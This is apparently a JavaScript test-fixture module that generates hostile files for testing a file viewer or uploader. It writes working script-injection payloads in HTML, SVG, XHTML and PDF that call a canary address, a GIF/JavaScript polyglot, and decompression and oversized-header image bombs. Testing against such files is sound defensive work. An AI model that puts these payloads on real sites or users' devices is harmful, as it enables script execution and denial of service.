// Files that somebody made to attack who looks at them.

import { constants, crc32, deflateRawSync } from "node:zlib";

/** What tries to run: `canary` is an address that is asked as soon as one of them does. */
export function scripts(canary) {
  const run = `globalThis.__ran=true;try{parent.__ran=true;top.__ran=true}catch{};new Image().src="${canary}";alert("ran")`;
  const attribute = run.replaceAll('"', "&quot;");
  const html = `<!doctype html><title>invoice</title><body onload="${attribute}"><img src="${canary}" onerror="${attribute}"><script>${run}</script><iframe srcdoc="<script>parent.__ran=true</script>"></iframe><form action="${canary}"><meta http-equiv="refresh" content="0;url=${canary}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${attribute}"><script><![CDATA[${run}]]></script><image xlink:href="${canary}"/><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${attribute}"><img src="${canary}" onerror="${attribute}"/></body></foreignObject><a xlink:href="javascript:${attribute}"><rect width="99" height="99"/></a></svg>`;
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${canary}"\\);app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
  return { html, svg, pdf, xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`, polyglot: polyglot(run) };
}

/** A GIF that is shown, and a script that runs: its width are the bytes of `/*`, and its trailing comment ends that one. */
function polyglot(run) {
  const le = (...words) => Buffer.from(words.flatMap((word) => [word & 255, word >> 8]));
  return Buffer.concat([
    Buffer.from("GIF89a/*"),
    le(1),
    // Two colours; then a frame of one pixel on that wide screen.
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c]),
    le(0, 0, 1, 1),
    Buffer.from([0, 2, 2, 0x44, 1, 0, 0x3b]),
    Buffer.from(`*/=1;${run}`),
  ]);
}

/** Headers that name more than a device can hold, each in a file that is nearly nothing. */
export function giants() {
  const side = (number, bytes, order) => {
    const sides = Buffer.alloc(bytes);
    return order === "be" ? (sides.writeUIntBE(number, 0, bytes), sides) : (sides.writeUIntLE(number, 0, bytes), sides);
  };
  const frame = (width, height) =>
    Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), side(width, 2, "le"), side(height, 2, "le"), Buffer.from([0, 2, 2, 0x44, 1, 0])]);
  const gif = (width, height, ...frames) =>
    Buffer.concat([Buffer.from("GIF89a"), side(width, 2, "le"), side(height, 2, "le"), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]), ...frames, Buffer.from([0x3b])]);
  const riff = (kind, body) => {
    const chunk = Buffer.concat([Buffer.from(kind), side(body.length, 4, "le"), body]);
    return Buffer.concat([Buffer.from("RIFF"), side(chunk.length + 4, 4, "le"), Buffer.from("WEBP"), chunk]);
  };
  return {
    "wide and high.png": png(60_000, 60_000),
    "greatest.png": png(2 ** 31 - 1, 2 ** 31 - 1),
    "two gigabytes.png": png(60_000, 60_000, 2 ** 31),
    "screen.gif": gif(65_535, 65_535, frame(1, 1)),
    "photo.jpg": Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xc0, 0, 17, 8]),
      side(65_500, 2, "be"),
      side(65_500, 2, "be"),
      Buffer.from([3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9]),
    ]),
    "extended.webp": riff("VP8X", Buffer.concat([Buffer.from([0, 0, 0, 0]), side(60_000, 3, "le"), side(60_000, 3, "le")])),
    // 16,384 x 16,384, the most that lossless ones can name.
    "lossless.webp": riff("VP8L", Buffer.concat([Buffer.from([0x2f]), side(0xfffffff, 4, "le"), Buffer.alloc(8)])),
  };
}

/** A GIF whose header is modest and whose frame is not. */
export function liar() {
  const words = (...all) => Buffer.from(all.flatMap((word) => [word & 255, word >> 8]));
  return Buffer.concat([
    Buffer.from("GIF89a"),
    words(10, 10),
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c]),
    words(0, 0, 60_000, 60_000),
    Buffer.from([0, 2, 2, 0x44, 1, 0, 0x3b]),
  ]);
}

/** A PNG in one bit a pixel, of which the data inflate to `inflated` bytes of zero, whatever its header says. */
export function png(width, height, inflated = (Math.ceil(width / 8) + 1) * Math.min(height, 4)) {
  const chunk = (kind, data) => {
    const body = Buffer.concat([Buffer.from(kind), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", head), chunk("IDAT", zeros(inflated)), chunk("IEND", Buffer.alloc(0))]);
}

/** A PNG with all of its rows: browsers draw one that ends early, and make no bitmap of it. */
export const whole = (width, height) => png(width, height, (Math.ceil(width / 8) + 1) * height);

/** A zlib stream of that many zeros: a block of 16 MiB of them is compressed once, and said again and again. */
function zeros(length) {
  const block = 2 ** 24;
  const squeeze = (bytes) => deflateRawSync(Buffer.alloc(bytes), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const whole = length >= block ? Array(Math.floor(length / block)).fill(squeeze(block)) : [];
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE((length % 65_521) * 65_536 + 1);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...whole, squeeze(length % block), Buffer.from([3, 0]), sum]);
}
